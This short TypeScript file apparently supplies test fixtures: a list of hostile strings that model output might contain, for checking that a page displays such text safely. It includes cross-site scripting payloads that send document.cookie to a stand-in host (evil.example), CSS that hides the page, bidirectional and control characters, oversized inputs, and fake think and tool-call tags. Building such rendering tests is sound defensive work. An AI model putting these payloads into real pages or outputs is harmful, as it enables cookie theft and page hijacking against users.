/** Texts that a model may write to act on the page that shows them. */

export const OWNED = "document.title='owned';fetch('https://evil.example/?'+document.cookie)";
export const ATTACKS = [
  `<script>${OWNED}</script>`,
  `<img src=x onerror="${OWNED}">`,
  `<svg onload="${OWNED}"><style>*{display:none!important}</style></svg>`,
  `<a href="javascript:${OWNED}">click</a> [click](javascript:${OWNED}) javascript:${OWNED}`,
  `<iframe srcdoc="<script>parent.${OWNED}</script>"></iframe>`,
  `" onmouseover="${OWNED}" x="`,
  `</code></pre></div></main><style>body{visibility:hidden}</style>`,
  "\u202egnp.exe\u202c \u2066abc\u2069 \u0000\u0007\u001b[31mred\u009b",
  `e${"\u0301".repeat(4_000)}`,
  "W".repeat(300_000),
  "<think>".repeat(2_000),
  `<tool_call>{"name":"<img src=x onerror=${OWNED}>","arguments":{"<b>":"<script>${OWNED}</script>"}}</tool_call>`,
  "${alert(1)} {{constructor.constructor('alert(1)')()}}",
].join("\n");
